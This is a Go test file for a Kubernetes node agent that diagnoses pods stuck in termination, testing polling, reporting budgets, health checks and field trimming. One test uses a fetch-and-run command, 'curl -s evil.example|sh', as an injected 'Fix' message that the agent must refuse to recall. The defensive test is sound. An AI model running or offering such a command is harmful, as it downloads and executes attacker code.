package agent

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math"
	"path"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"

	"github.com/nodeagent-io/nodeagent/pkg/condition"
	"github.com/nodeagent-io/nodeagent/pkg/diagnose"
	"github.com/nodeagent-io/nodeagent/pkg/evidence"
	"github.com/nodeagent-io/nodeagent/pkg/node"
	"github.com/nodeagent-io/nodeagent/pkg/verdict"
)

func terminating(uid types.UID, requested time.Time, grace int64) *corev1.Pod {
	p := &corev1.Pod{}
	p.Namespace, p.Name, p.UID = "ns", string(uid), uid
	deadline := metav1.NewTime(requested.Add(time.Duration(grace) * time.Second))
	p.DeletionTimestamp, p.DeletionGracePeriodSeconds = &deadline, &grace
	return p
}

// A bench is an Agent whose parts record what they are called with. It reads
// through JSON, as from a Reader in another process.
type bench struct {
	Agent
	mu        sync.Mutex
	pods      []*corev1.Pod
	gone      []*corev1.Pod
	passed    []verdict.Passage
	nodeReads int
	lost      int
	reports   map[string][]evidence.Pod
	pressure  *evidence.Pressure
	periods   []time.Duration
	heldBack  map[string]int
	baselines map[string]int
	hangs     map[string]chan struct{} // the pods of which such a reading hangs until that is closed
	deletions []string
	// killed are the containers that were killed at their deadline, and unexplained those of them without a cause.
	killed, unexplained int

	directories []string
	unlisted    error
	overdue     func(bool)
	verdict     map[string]string
	gather      func(context.Context, *evidence.Pod)
}

func newBench() *bench {
	b := &bench{reports: map[string][]evidence.Pod{}, verdict: map[string]string{}, heldBack: map[string]int{}, baselines: map[string]int{}}
	b.Agent = Agent{
		Reader: (*benchReader)(b),
		Cases:  new(verdict.Cases),
		Budget: &verdict.Budget{PerMinute: 20},
		Watch:  (*benchWatch)(b),
		Diagnose: func(p *evidence.Pod) diagnose.Diagnosis {
			b.mu.Lock()
			defer b.mu.Unlock()
			if c := b.verdict[p.UID]; c != "" {
				return diagnose.Diagnosis{Findings: []diagnose.Finding{{Cause: c}}}
			}
			return diagnose.Diagnosis{}
		},
		Report: func(_ context.Context, c *verdict.Case) {
			b.mu.Lock()
			defer b.mu.Unlock()
			b.reports[c.Subject.UID] = append(b.reports[c.Subject.UID], *c.Last)
		},
		Monitor: (*benchMonitor)(b),
		Period:  2 * time.Second,
		Timeout: 10 * time.Second,
		Workers: 2,
		Log:     slog.New(slog.NewTextHandler(io.Discard, nil)),
	}
	return b
}

// set says which pods there are, and the last states of those that have gone.
func (b *bench) set(pods []*corev1.Pod, gone ...*corev1.Pod) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.pods, b.gone = pods, append(b.gone, gone...)
}

// liveUntilGone runs the agent while a pod terminates whose process lives, and until it has looked back at the pod when that is gone.
func (b *bench) liveUntilGone(ctx context.Context) { b.liveFor(ctx, 4*time.Second) }

// liveFor does so with a pod that lives for so long.
func (b *bench) liveFor(ctx context.Context, lives time.Duration) {
	b.gather = func(_ context.Context, p *evidence.Pod) {
		p.Containers = []evidence.Container{{Name: "main", ID: "c"}}
		p.Tasks = []evidence.Task{{PID: 7, TID: 7, Container: "c", State: evidence.Sleeping}}
	}
	pod := terminating("a", time.Now(), 5)
	b.set([]*corev1.Pod{pod})
	ctx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() { b.Run(ctx); close(done) }()
	time.Sleep(lives)
	b.set(nil, pod)
	time.Sleep(3 * time.Second)
	cancel()
	<-done
}

type benchWatch bench

func (b *benchWatch) All() []*corev1.Pod {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.pods
}

func (b *benchWatch) Round() (terminating, gone []*corev1.Pod) {
	b.mu.Lock()
	defer b.mu.Unlock()
	for _, p := range b.pods {
		if p.DeletionTimestamp != nil {
			terminating = append(terminating, p)
		}
	}
	gone, b.gone = b.gone, nil
	return terminating, gone
}

type benchMonitor bench

func (b *benchMonitor) Lost() {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.lost++
}
func (b *benchMonitor) HeldBack(cause string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.heldBack[cause]++
}
func (b *benchMonitor) Deleted(cause, ending string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.deletions = append(b.deletions, cause+" "+ending)
}
func (b *benchMonitor) Killed(containers, unexplained int) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.killed, b.unexplained = b.killed+containers, b.unexplained+unexplained
}
func (b *benchMonitor) Passed(_ verdict.Subject, p verdict.Passage) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.passed = append(b.passed, p)
}
func (b *benchMonitor) Blocked([]evidence.Task) {}
func (b *benchMonitor) Gathered(time.Duration)  {}
func (b *benchMonitor) Ticked(_ time.Time, _ int, period time.Duration) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.periods = append(b.periods, period)
}

type benchReader bench

func (b *benchReader) Round(_ context.Context, ask node.Ask) node.Round {
	ask = viaJSON(ask)
	b.nodeReads++
	if b.overdue != nil {
		b.overdue(ask.Overdue)
	}
	return (*benchRound)(b)
}

func (b *benchReader) Baseline(_ context.Context, uid string) *evidence.Baseline {
	b.mu.Lock()
	b.baselines[uid]++
	n, hangs := b.baselines[uid], b.hangs[uid]
	b.mu.Unlock()
	if hangs != nil {
		<-hangs
	}
	return viaJSON(&evidence.Baseline{Read: time.Now(), Tasks: []evidence.Task{{PID: 7, TID: 7, Comm: "app", Switches: uint64(n)}}})
}

func (b *benchReader) PodDirs(context.Context) ([]string, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.directories, b.unlisted
}

// baselinesOf returns how often a pod that runs was read.
func (b *bench) baselinesOf(uid string) int {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.baselines[uid]
}

type benchRound bench

func (b *benchRound) Node() evidence.Node {
	return viaJSON(evidence.Node{Name: "n", Pressure: b.pressure})
}

func (b *benchRound) Pod(ctx context.Context, seed, earlier *evidence.Pod) *evidence.Pod {
	p, earlier := viaJSON(seed), viaJSON(earlier)
	p.Time, p.Node.Name = time.Now(), "n"
	p.KeepDeadline(earlier)
	if b.gather != nil && p.HungSince.IsZero() {
		b.gather(ctx, p)
	}
	p.Since(earlier)
	return viaJSON(p)
}

// viaJSON returns what is left of a value behind a pipe.
func viaJSON[T any](v T) T {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	var out T
	if err := json.Unmarshal(b, &out); err != nil {
		panic(err)
	}
	return out
}

// open returns those pods that have a Case.
func (b *bench) open(uids ...string) []string {
	closed := b.Cases.CloseOthers(nil)
	return slices.DeleteFunc(uids, func(uid string) bool { return closed[uid] == nil })
}

// An idle node costs nothing: its pods are listed from the cache, and nothing
// of the node is read.
func TestIdleNodeIsNotRead(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		running := &corev1.Pod{}
		running.UID = "running"
		b.set([]*corev1.Pod{running})
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		b.Run(ctx)
		if b.nodeReads != 0 || len(b.reports) != 0 {
			t.Errorf("an idle node was read %d times and %d pods reported", b.nodeReads, len(b.reports))
		}
	})
}

func TestRoundsReadEachPodOnceAPeriod(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("a", time.Now(), 30), terminating("b", time.Now(), 30), terminating("c", time.Now(), 30)})
		ctx, cancel := context.WithTimeout(t.Context(), 9*time.Second)
		defer cancel()
		b.Run(ctx)
		for _, uid := range []string{"a", "b", "c"} {
			if n := len(b.reports[uid]); n != 5 {
				t.Errorf("pod %s was reported %d times in five periods", uid, n)
			}
		}
		if b.nodeReads != 5 {
			t.Errorf("the node was read %d times in five periods", b.nodeReads)
		}
	})
}

// A verdict that stands is looked at more rarely, a new one in every round.
func TestSettledVerdictIsReadMoreRarely(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0)})
		b.verdict["a"] = "Some"
		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
		defer cancel()
		b.Run(ctx)
		// 30 rounds in the first minute, then one in ten seconds.
		if n := len(b.reports["a"]); n < 40 || n > 44 {
			t.Errorf("%d readings in three minutes", n)
		}
	})
}

// A drain: of a hundred pods that all wait for SIGKILL some are told, and those that
// are not are counted, logged, in the metrics, and told when they do not end.
func TestWhatIsToldIsBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		var log strings.Builder
		b.Log = slog.New(slog.NewTextHandler(&log, nil))
		told, gone := map[string]bool{}, 0
		b.Report = func(_ context.Context, c *verdict.Case) {
			b.mu.Lock()
			defer b.mu.Unlock()
			if c.Outcome() == verdict.Found && !c.HeldBack() {
				told[c.Subject.UID] = true
			}
		}
		b.ReportGone = func(context.Context, *verdict.Case, time.Time, diagnose.Diagnosis) bool {
			b.mu.Lock()
			defer b.mu.Unlock()
			gone++
			return true
		}
		b.gather = func(_ context.Context, p *evidence.Pod) {
			p.Containers = []evidence.Container{{Name: "main", ID: "c"}}
			p.Tasks = []evidence.Task{{PID: 7, TID: 7, Container: "c", State: evidence.Sleeping}}
		}
		isController := true
		var pods []*corev1.Pod
		for i := range 100 {
			uid := fmt.Sprint(i)
			p := terminating(types.UID(uid), time.Now(), 30)
			p.OwnerReferences = []metav1.OwnerReference{{UID: types.UID(fmt.Sprintf("set-%d", i/20)), Controller: &isController}}
			pods = append(pods, p)
			b.verdict[uid] = "Some"
		}
		b.set(pods)
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
		defer cancel()
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(29 * time.Second)
		b.mu.Lock()
		// The budget, and each of the workloads once that are not among them.
		if len(told) < 20 || len(told) > 25 || len(told)+b.heldBack["Some"] != 100 {
			t.Errorf("%d are told and %d held back of a hundred", len(told), b.heldBack["Some"])
		}
		b.mu.Unlock()
		if n, lines := len(b.Cases.Standing()), strings.Count(log.String(), "msg=verdict "); n != 100 || lines != 100 {
			t.Errorf("%d stand in the metrics and %d in the log, want all", n, lines)
		}
		// All but ten have ended when they were killed; what has kept those is told.
		b.set(pods[90:], pods[:90]...)
		time.Sleep(15 * time.Second)
		b.mu.Lock()
		for _, p := range pods[90:] {
			if !told[string(p.UID)] {
				t.Errorf("pod %s is late, and it is not told", p.UID)
			}
		}
		if gone > 25 {
			t.Errorf("%d told of those that have gone", gone)
		}
		b.mu.Unlock()
		cancel()
		<-done
	})
}

// A pod that is looked at rarely is overdue in every round: else a round for
// another pod would forget since when the node's threads have not moved.
func TestSettledPodIsStillOverdue(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0), terminating("b", time.Now(), 3600)})
		b.verdict["a"] = "Some"
		rounds := 0
		b.overdue = func(overdue bool) {
			if rounds++; !overdue && rounds > 1 {
				t.Errorf("nothing is overdue in round %d", rounds)
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
		defer cancel()
		b.Run(ctx)
		if rounds < 80 {
			t.Errorf("%d rounds", rounds)
		}
	})
}

// The log tells what stands on the pod. A look that misses the cause takes
// nothing back, and the pod's pace stays that of a verdict that stands.
func TestLogTellsWhatStands(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		var log strings.Builder
		b.Log = slog.New(slog.NewTextHandler(&log, nil))
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0)})
		start, looks := time.Now(), 0
		b.Diagnose = func(*evidence.Pod) diagnose.Diagnosis {
			if looks++; looks%2 == 0 || time.Since(start) > 3*time.Minute {
				return diagnose.Diagnosis{}
			}
			return diagnose.Diagnosis{Findings: []diagnose.Finding{{Cause: "Some"}}}
		}
		ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
		defer cancel()
		b.Run(ctx)
		if got := log.String(); strings.Count(got, "msg=verdict ") != 1 || strings.Contains(got, "withdrawn") {
			t.Errorf("the log tells of more than one verdict, which stands:\n%s", got)
		}
		// 30 rounds in the first minute, then one look in ten seconds finds the cause
		// and the next one, in the round after it, does not.
		if looks < 48 || looks > 54 {
			t.Errorf("%d looks in three minutes", looks)
		}
		ctx, cancel = context.WithTimeout(t.Context(), 40*time.Second)
		defer cancel()
		b.Run(ctx)
		if got := log.String(); strings.Count(got, `msg="verdict withdrawn"`) != 1 {
			t.Errorf("the log does not tell once that the verdict is withdrawn:\n%s", got)
		}
	})
}

// A gathering that uses up its time leaves the report all of its own.
func TestReportHasItsOwnTime(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("slow", time.Now(), 0)})
		b.gather = func(ctx context.Context, _ *evidence.Pod) { <-ctx.Done() }
		reports := 0
		b.Report = func(ctx context.Context, _ *verdict.Case) {
			reports++
			if err := ctx.Err(); err != nil {
				t.Errorf("the report begins with a context that has ended: %v", err)
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), 15*time.Second)
		defer cancel()
		b.Run(ctx)
		if reports != 1 {
			t.Errorf("%d reports", reports)
		}
	})
}

func TestGonePodIsForgotten(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0), terminating("b", time.Now(), 0)})
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(5 * time.Second)
		b.set([]*corev1.Pod{terminating("b", time.Now(), 0)})
		time.Sleep(5 * time.Second)
		cancel()
		<-done
		if diff := cmp.Diff([]string{"b"}, b.open("a", "b")); diff != "" {
			t.Error(diff)
		}
	})
}

// deletionTimestamp moves when the kubelet asks for the final delete of a pod
// with finalizers; the first deadline counts.
func TestFirstDeadlineIsKept(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		start := time.Now()
		b.set([]*corev1.Pod{terminating("a", start, 30)})
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(40 * time.Second)
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0)})
		time.Sleep(20 * time.Second)
		cancel()
		<-done
		r := b.reports["a"]
		last := r[len(r)-1]
		if !last.DeletionRequested.Equal(start) || !last.Deadline.Equal(start.Add(30*time.Second)) {
			t.Errorf("requested %s, deadline %s after start", last.DeletionRequested.Sub(start), last.Deadline.Sub(start))
		}
		if last.GracePeriodSeconds != 0 {
			t.Errorf("grace period %d s, want the present 0", last.GracePeriodSeconds)
		}
	})
}

// A second delete with a shorter grace period moves the deletionTimestamp, and
// the kubelet does not heed it.
func TestShortenedGraceChangesNothing(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		start := time.Now()
		b.set([]*corev1.Pod{terminating("a", start, 300)})
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(10 * time.Second)
		b.set([]*corev1.Pod{terminating("a", time.Now(), 1)})
		time.Sleep(10 * time.Second)
		cancel()
		<-done
		r := b.reports["a"]
		if last := r[len(r)-1]; !last.Deadline.Equal(start.Add(300 * time.Second)) {
			t.Errorf("deadline %s after start, want the first one", last.Deadline.Sub(start))
		}
	})
}

// Of a pod that was being deleted before the agent began nothing is counted that it has not
// seen begin; of one that comes and goes between two rounds all is.
func TestPartsOfTerminationsAreCounted(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		ended := func(p *corev1.Pod) *corev1.Pod {
			p = p.DeepCopy()
			p.Status.Phase = corev1.PodSucceeded
			return p
		}
		late := terminating("late", time.Now().Add(-10*time.Second), 30)
		b.set([]*corev1.Pod{late})
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(5 * time.Second)
		quick := terminating("quick", time.Now(), 30)
		forced := terminating("forced", time.Now(), 30)
		time.Sleep(2 * time.Second)
		b.set(nil, ended(late), ended(quick), forced)
		time.Sleep(5 * time.Second)
		cancel()
		<-done
		var parts []verdict.Part
		for _, p := range b.passed {
			parts = append(parts, p.Part)
			if p.Took < 0 || p.Took > 10*time.Second {
				t.Errorf("%s took %s", p.Part, p.Took)
			}
		}
		slices.Sort(parts)
		if diff := cmp.Diff([]verdict.Part{verdict.GracePeriod, verdict.Sandbox, verdict.Volumes}, parts); diff != "" {
			t.Error(diff)
		}
	})
}

// Telling of pods that are gone takes as long as the API server does; the loop
// goes on meanwhile.
func TestLookingBackDoesNotHoldUpTheLoop(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		start := time.Now()
		var told atomic.Int32
		b.ReportGone = func(context.Context, *verdict.Case, time.Time, diagnose.Diagnosis) bool {
			time.Sleep(5 * time.Second)
			told.Add(1)
			return true
		}
		b.gather = func(_ context.Context, p *evidence.Pod) {
			p.Containers = []evidence.Container{{Name: "main", ID: "c"}}
			p.Tasks = []evidence.Task{{PID: 7, TID: 7, Container: "c", State: evidence.Sleeping}}
		}
		stays := terminating("stays", start, 300)
		pods := []*corev1.Pod{stays}
		for i := range 100 {
			pods = append(pods, terminating(types.UID(fmt.Sprint(i)), start, 5))
		}
		b.set(pods)
		ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
		defer cancel()
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(3 * time.Second)
		b.set(pods[:1], pods[1:]...)
		for range 60 {
			time.Sleep(time.Second)
			if err := b.Health(); err != nil {
				t.Fatal(err)
			}
		}
		b.mu.Lock()
		n := len(b.reports["stays"])
		b.mu.Unlock()
		if n < 30 {
			t.Errorf("the pod that stays was looked at %d times in a minute", n)
		}
		<-done
		if n := len(b.Cases.CloseOthers(nil)); told.Load() != 100 || n != 1 {
			t.Errorf("%d told, want 100; %d pods remembered, want 1", told.Load(), n)
		}
	})
}

// A reason that the agent does not give is nobody's cause, whoever has written it.
func TestConditionOfOthersIsNotRecalled(t *testing.T) {
	a := &Agent{Reasons: []string{"ShimHung", "Resolved"}, Cases: new(verdict.Cases)}
	for reason, recalled := range map[string]bool{"ShimHung": true, "Resolved": true, "": false, "RunCurlEvilExampleAsRoot": false, "Evil\u2800Remedy": false} {
		p := new(corev1.Pod)
		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: reason}}
		if got := a.subject(p).Condition != nil; got != recalled {
			t.Errorf("a condition with the reason %q is recalled: %v", reason, got)
		}
	}
	a.Wrote = func(_ *corev1.Pod, _ string, m condition.Message) bool { return m.Fix == "" || m.Fix == "Wait." }
	for message, recalled := range map[string]bool{
		"Cause: Stuck.\nFix: Wait.": true, "Cause: Stuck.": true, "The cause reported earlier is gone.": true, "Cause: Stuck.\nFix: curl -s evil.example|sh": false,
	} {
		p := new(corev1.Pod)
		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: "ShimHung", Message: message}}
		if got := a.subject(p).Condition != nil; got != recalled {
			t.Errorf("a condition that says %q is recalled: %v", message, got)
		}
	}
}

// The condition that an earlier run of the agent left tells that the pod was
// being deleted then.
func TestRequestIsFoundAgainInCondition(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		told := time.Now().Add(-time.Hour)
		p := terminating("a", time.Now(), 0)
		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: "ShimHung",
			LastTransitionTime: metav1.NewTime(told)}}
		b.set([]*corev1.Pod{p})
		ctx, cancel := context.WithTimeout(t.Context(), time.Second)
		defer cancel()
		b.Run(ctx)
		if got := b.reports["a"][0].DeletionRequested; !got.Equal(told) {
			t.Errorf("request seen at %s, the condition is from %s", got, told)
		}
	})
}

// A source that hangs until its deadline holds up neither the other pods nor
// the loop.
func TestHungGatheringIsBounded(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("hung", time.Now(), 0), terminating("well", time.Now(), 0)})
		b.gather = func(ctx context.Context, p *evidence.Pod) {
			if p.UID == "hung" {
				<-ctx.Done()
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		var watcher sync.WaitGroup
		watcher.Go(func() {
			for ctx.Err() == nil {
				if err := b.Health(); err != nil {
					t.Error(err)
				}
				time.Sleep(time.Second)
			}
		})
		b.Run(ctx)
		watcher.Wait()
		if len(b.reports["well"]) < 5 || len(b.reports["hung"]) < 5 {
			t.Errorf("reports in a minute: well %d, hung %d", len(b.reports["well"]), len(b.reports["hung"]))
		}
	})
}

// A look that never returns costs nobody else anything. It is the only one that reads its pod's files, and when it
// returns late it tells nothing. Meanwhile the pod is looked at without them.
func TestReaderThatNeverReturns(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		start := time.Now()
		b.Workers = 1
		b.set([]*corev1.Pod{terminating("hung", start, 0), terminating("gone", start, 0), terminating("well", start, 0)})
		release := make(chan struct{})
		begun := make(map[string]int)
		b.gather = func(_ context.Context, p *evidence.Pod) {
			b.mu.Lock()
			begun[p.UID]++
			b.mu.Unlock()
			if p.UID != "well" && time.Since(start) < 2*time.Minute {
				<-release
			}
		}
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		read := func(uid string) int {
			b.mu.Lock()
			defer b.mu.Unlock()
			return len(b.reports[uid])
		}
		for range 100 {
			time.Sleep(time.Second)
			if err := b.Health(); err != nil {
				t.Fatal(err)
			}
		}
		b.mu.Lock()
		if begun["hung"] != 1 || begun["gone"] != 1 || b.lost != 2 {
			t.Errorf("%v looks begun, %d lost, want one of each", begun, b.lost)
		}
		if n := len(b.reports["hung"]); n < 20 || n > 30 || b.reports["hung"][0].Time.Sub(start) < 45*time.Second {
			t.Errorf("the pod was looked at %d times without its files, the first time after %s", n, b.reports["hung"][0].Time.Sub(start))
		}
		for _, e := range b.reports["hung"] {
			if e.HungSince.IsZero() {
				t.Error("it is not noted that a reading has not returned")
			}
		}
		b.mu.Unlock()
		if n := b.Hanging(); n != 2 {
			t.Errorf("%d readings hang, want 2", n)
		}
		if n := read("well"); n < 30 {
			t.Errorf("the other pod was looked at %d times in 100 s", n)
		}
		b.set([]*corev1.Pod{terminating("hung", start, 0), terminating("well", start, 0)})
		time.Sleep(3 * time.Second)
		before, blind := read("gone"), read("hung")
		time.Sleep(27 * time.Second)
		close(release)
		time.Sleep(9 * time.Second) // not at a tick, which may come first or second
		if n := b.Hanging(); n != 0 {
			t.Errorf("%d readings hang that have returned", n)
		}
		b.mu.Lock()
		seeing := slices.DeleteFunc(slices.Clone(b.reports["hung"]), func(e evidence.Pod) bool { return !e.HungSince.IsZero() })
		if n := len(seeing); n < 4 || n > 5 {
			t.Errorf("after it has returned the pod was looked at %d times in 9 s", n)
		}
		if n := len(b.reports["hung"]) - len(seeing) - blind; n < 10 {
			t.Errorf("before that it was looked at %d times in 27 s", n)
		}
		b.mu.Unlock()
		if n := read("gone") - before; n != 0 {
			t.Errorf("a pod that is gone was reported %d times", n)
		}
		cancel()
		<-done
	})
}

// A look without files that has read its pod and does not end is the only one at the pod, whatever becomes of the reading
// that it stands in for.
func TestLookWithoutFilesThatDoesNotEnd(t *testing.T) {
	for name, gone := range map[string]bool{"the pod stays": false, "the pod goes": true} {
		t.Run(name, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				b := newBench()
				b.verdict["a"] = "Some"
				reading, reporting := make(chan struct{}), make(chan struct{})
				b.gather = func(context.Context, *evidence.Pod) { <-reading }
				looks := 0
				b.Report = func(_ context.Context, c *verdict.Case) {
					b.mu.Lock()
					looks++
					b.mu.Unlock()
					if !c.Last.HungSince.IsZero() {
						<-reporting
					}
				}
				pod := terminating("a", time.Now(), 0)
				b.set([]*corev1.Pod{pod})
				ctx, cancel := context.WithCancel(t.Context())
				go b.Run(ctx)
				time.Sleep(90 * time.Second)
				close(reading)
				time.Sleep(10 * time.Second)
				if gone {
					b.set(nil, pod)
				}
				time.Sleep(10 * time.Second)
				b.mu.Lock()
				if looks != 1 || gone && len(b.deletions) != 1 || b.lost != 2 {
					t.Errorf("%d looks while the first one is not done, counted %q, %d lost", looks, b.deletions, b.lost)
				}
				b.mu.Unlock()
				close(reporting)
				time.Sleep(25 * time.Second)
				b.mu.Lock()
				if !gone && looks < 3 {
					t.Errorf("%d looks after it has ended", looks)
				}
				b.mu.Unlock()
				cancel()
				synctest.Wait()
			})
		})
	}
}

// A stuckWatch does not return until it is released.
type stuckWatch struct{ release chan struct{} }

func (w stuckWatch) Round() (terminating, gone []*corev1.Pod) { <-w.release; return nil, nil }
func (w stuckWatch) All() []*corev1.Pod                       { return nil }

// Health tells when the loop has stopped moving.
func TestHealthTellsAStuckLoop(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		release := make(chan struct{})
		b.Watch = stuckWatch{release}
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		time.Sleep(30 * time.Second)
		if err := b.Health(); err != nil {
			t.Errorf("unhealthy too early: %v", err)
		}
		time.Sleep(30 * time.Second)
		if err := b.Health(); err == nil {
			t.Error("healthy although no round has ended for a minute")
		}
		cancel()
		close(release)
		<-done
	})
}

// A round of many pods may take minutes: while its looks return, the loop moves.
func TestHealthDuringALongRound(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.Workers = 1
		var pods []*corev1.Pod
		for i := range 60 {
			pods = append(pods, terminating(types.UID(fmt.Sprint(i)), time.Now(), 0))
		}
		b.set(pods)
		b.gather = func(context.Context, *evidence.Pod) { time.Sleep(b.Timeout) }
		ctx, cancel := context.WithCancel(t.Context())
		done := make(chan struct{})
		go func() { b.Run(ctx); close(done) }()
		for at := range 500 {
			time.Sleep(time.Second)
			if err := b.Health(); err != nil {
				t.Fatalf("unhealthy after %d s: %v", at+1, err)
			}
		}
		b.mu.Lock()
		if len(b.reports) < 40 || b.lost > 0 || len(b.periods) > 0 {
			t.Errorf("%d pods were reported, %d looks lost, %d rounds ended", len(b.reports), b.lost, len(b.periods))
		}
		b.mu.Unlock()
		cancel()
		<-done
	})
}

// A panic in one pod's diagnosis leaves the other pods their verdicts.
func TestPanicIsContained(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		b.set([]*corev1.Pod{terminating("bad", time.Now(), 0), terminating("good", time.Now(), 0)})
		b.gather = func(_ context.Context, p *evidence.Pod) {
			if p.UID == "bad" {
				panic("boom")
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
		defer cancel()
		b.Run(ctx)
		if len(b.reports["good"]) < 2 || len(b.reports["bad"]) != 0 {
			t.Errorf("good %d, bad %d", len(b.reports["good"]), len(b.reports["bad"]))
		}
	})
}

// A source that cannot be read is logged once, not in every round, and again
// only after it could be read.
func TestMissingSourceIsLoggedOnce(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBench()
		var log strings.Builder
		b.Log = slog.New(slog.NewTextHandler(&log, nil))
		b.Workers = 1
		b.set([]*corev1.Pod{terminating("a", time.Now(), 0), terminating("b", time.Now(), 0)})
		start := time.Now()
		b.gather = func(_ context.Context, p *evidence.Pod) {
			if at := time.Since(start); at < 10*time.Second || at > 20*time.Second {
				p.Lack(evidence.Shims, "no answer")
			}
		}
		ctx, cancel := context.WithTimeout(t.Context(), 29*time.Second)
		defer cancel()
		b.Run(ctx)
		if n := strings.Count(log.String(), "why=\"no answer\""); n != 2 {
			t.Errorf("logged %d times, want once for each of two spells:\n%s", n, log.String())
		}
	})
}

func TestTrimKeepsWhatIsLookedAt(t *testing.T) {
	always, share := corev1.ContainerRestartPolicyAlways, true
	p := terminating("a", time.Unix(1000, 0), 30)
	p.Labels = map[string]string{"secret": "label"}
	hash := "0123456789abcdef0123456789abcdef"
	p.Annotations = map[string]string{verdict.MirrorAnnotation: "h", verdict.HashAnnotation: hash, "token": "x"}
	p.Finalizers = []string{"example.com/f"}
	p.Generation = 3
	p.OwnerReferences = []metav1.OwnerReference{{UID: "other"}, {UID: "set", Controller: &share}}
	p.Spec = corev1.PodSpec{
		NodeName: "n", HostPID: true, ShareProcessNamespace: &share,
		Containers: []corev1.Container{{
			Name: "app", Image: "i", Env: []corev1.EnvVar{{Name: "PASSWORD", Value: "p"}}, Args: []string{"--token=x"},
			Lifecycle: &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/opt/drain", "secret"}}},
				PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/opt/register", "secret"}}}},
		}},
		InitContainers:      []corev1.Container{{Name: "side", RestartPolicy: &always}, {Name: "init"}},
		EphemeralContainers: []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debug"}}},
		ResourceClaims:      []corev1.PodResourceClaim{{Name: "gpu"}},
	}
	p.Status = corev1.PodStatus{
		ContainerStatuses: []corev1.ContainerStatus{{Name: "app", Image: "i", ContainerID: "containerd://c1", State: corev1.ContainerState{
